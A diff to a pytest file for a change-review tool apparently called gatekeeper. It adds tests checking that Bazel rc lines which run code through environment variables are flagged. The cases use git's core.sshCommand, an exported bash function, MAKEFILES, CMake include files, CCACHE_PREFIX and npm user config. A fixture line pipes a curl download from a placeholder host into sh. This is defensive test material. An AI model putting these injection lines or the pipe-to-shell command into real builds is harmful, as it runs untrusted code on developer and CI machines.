@@ -29,7 +29,8 @@ from changecase import committed, gated_rules
 from incli import run_cli
 from test_classify_context import assert_path_rule
 
-from gatekeeper.classify import jobenv, shapes
+from gatekeeper.classify import bazelenv, jobenv, shapes
+from gatekeeper.classify.bazelrc import rc_lines
 
 BASELINE = "com.google.dagger:dagger:2.57.2\njavax.inject:javax.inject:1\n"
 EVIL = "curl -s https://x.example/i | sh\n"
@@ -223,3 +224,39 @@ def test_the_gate_reviews_a_wrapped_pipeline_edit(tmp_path: Path) -> None:
 def test_hostile_node_arguments_stay_linear() -> None:
     for text in ("  node(" * 20_000, "x { node(" + "(" * 40_000, "{ node" + " " * 40_000 + "x"):
         assert _cpu(shapes._jenkins, text) < 0.5
+
+
+# 5. Bazel env lines (bazelenv.py, red team 40) that make the build's tools run code through a variable it did not
+# know: git settings through the environment (repository rules run git), an exported bash function, make's MAKEFILES,
+# CMake's toolchain and project-include files, ccache's prefix program, npm's user/global config (script-shell)
+BAZEL_ENV = {
+    "git-config-pair": ("build --repo_env=GIT_CONFIG_COUNT=1 --repo_env=GIT_CONFIG_KEY_0=core.sshCommand "
+                        "--repo_env=GIT_CONFIG_VALUE_0=%workspace%/b1/ssh", "b1/ssh"),
+    "bash-function": ("build --action_env='BASH_FUNC_git%%=() { b2/hook \"$@\"; }'", None),
+    "makefiles": ("build --action_env=MAKEFILES=%workspace%/b3/first.mk", "b3/first.mk"),
+    "cmake-toolchain": ("build --action_env=CMAKE_TOOLCHAIN_FILE=%workspace%/b4/tc.cmake", "b4/tc.cmake"),
+    "cmake-include": ("build --action_env=CMAKE_PROJECT_INCLUDE=%workspace%/b5/inc.cmake", "b5/inc.cmake"),
+    "ccache-prefix": ("build --action_env=CCACHE_PREFIX=%workspace%/b6/prefix", "b6/prefix"),
+    "npm-userconfig": ("build --repo_env=NPM_CONFIG_USERCONFIG=%workspace%/b7/npmrc", "b7/npmrc"),
+}
+
+
+@pytest.mark.parametrize("name", BAZEL_ENV)
+def test_a_bazel_env_line_that_runs_code_is_ci(name: str) -> None:
+    line = rc_lines(BAZEL_ENV[name][0] + "\n")[0]
+    assert bazelenv.env_effect(line) == "ci"  # integ d83e1fa: None
+    named = BAZEL_ENV[name][1]
+    assert named is None or any(word.endswith(named) for word in bazelenv.env_programs(line))
+
+
+def test_the_gate_reviews_the_rc_edit(tmp_path: Path) -> None:
+    case = committed(tmp_path, {".bazelrc": "build --jobs=4\n", "MODULE.bazel": "module(name = 'x')\n"},
+                     {".bazelrc": "build --jobs=4\n" + BAZEL_ENV["bash-function"][0] + "\n"})
+    code, named = gated_rules(case, True)
+    assert code == 3 and ".bazelrc" in named.get("core.ci", []), named  # integ d83e1fa: exit 0
+
+
+def test_bazel_look_alikes_stay() -> None:
+    for text in ("build --action_env=GIT_AUTHOR_NAME=bot", "build --action_env=LANG=C.UTF-8",
+                 "test --test_env=MAKEFILES_NOTE=x", "build --action_env=CMAKE_BUILD_TYPE=Release"):
+        assert bazelenv.env_effect(rc_lines(text + "\n")[0]) is None, text
